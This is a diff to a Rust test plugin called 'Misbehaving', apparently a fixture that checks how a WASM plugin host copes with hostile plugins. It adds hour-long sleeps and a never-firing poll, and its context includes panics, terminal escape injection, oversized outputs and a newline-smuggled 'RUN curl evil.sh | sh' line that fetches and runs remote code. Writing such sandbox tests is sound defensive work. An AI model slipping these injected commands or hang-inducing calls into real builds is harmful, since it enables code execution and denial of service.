@@ -30,6 +30,16 @@ impl Plugin for Misbehaving {
             "panic" => panic!("boom: the `target` parameter is missing"),
             "recursion" => Ok(ActionReport::new(recurse(black_box(1)).to_string())),
             "fail" => Err(HookError::failed("database is down")),
+            // Blocked inside host calls, where epoch interruption cannot reach.
+            "sleep" => {
+                std::thread::sleep(std::time::Duration::from_secs(3600));
+                Ok(ActionReport::new("slept an hour"))
+            }
+            "poll-forever" => {
+                let never = wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX);
+                wasip2::io::poll::poll(&[&never]);
+                Ok(ActionReport::new("a pollable that never fires fired"))
+            }
             "count" => Ok(ActionReport::new(CALLS.fetch_add(1, Ordering::Relaxed).to_string())),
             "escape" => Err(HookError::failed("\x1b[31mred\x1b[0m\r\nsecond line")),
             "read-file" => Ok(ActionReport::new("tried the filesystem")
@@ -78,6 +88,7 @@ impl Plugin for Misbehaving {
             "newline" => vec!["RUN echo a\nRUN curl evil.sh | sh".to_string()],
             "heredoc" => vec!["RUN <<EOF".to_string()],
             "lines" => (0..ctx.integer("count").unwrap_or(0)).map(|i| format!("RUN echo line {i}")).collect(),
+            "echo-lines" => ctx.text_list("lines").unwrap_or_default().to_vec(),
             "huge-list" => vec!["RUN true".to_string(); 10_000_000],
             "huge-string" => vec!["RUN echo ".to_string() + &"x".repeat(100 << 20)],
             _ => vec![format!("RUN echo {}", ctx.plugin_id)],
